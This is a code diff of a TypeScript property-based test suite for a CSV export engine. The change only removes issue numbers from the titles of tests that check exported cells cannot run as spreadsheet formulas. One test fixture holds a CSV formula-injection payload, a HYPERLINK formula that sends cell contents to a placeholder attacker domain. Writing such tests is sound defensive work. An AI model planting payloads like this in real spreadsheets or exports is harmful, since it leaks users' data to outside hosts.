@@ -50,7 +50,7 @@ const answersArb: fc.Arbitrary<Answers> = fc
 /** True when a spreadsheet would read the cell as a formula (after RFC 4180 unquoting). */
 const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
 
-describe('engine: CSV formula injection (issue 14, point 4)', () => {
+describe('engine: CSV formula injection', () => {
   it('writes no cell a spreadsheet would run as a formula', () => {
     const file = createResultFile(
       { leadership: { stage: 'implement', notes: '=HYPERLINK("https://evil.example/"&J3,"x")' } },
@@ -97,7 +97,7 @@ describe('engine: CSV formula injection (issue 14, point 4)', () => {
     );
   });
 
-  it('issue 25: inert in a `;` or tab locale too: every text cell quoted, no formula after a separator, text back unchanged', () => {
+  it('inert in a `;` or tab locale too: every text cell quoted, no formula after a separator, text back unchanged', () => {
     const separated = fc
       .array(
         fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', "'", 'x', '1+1', ' '),
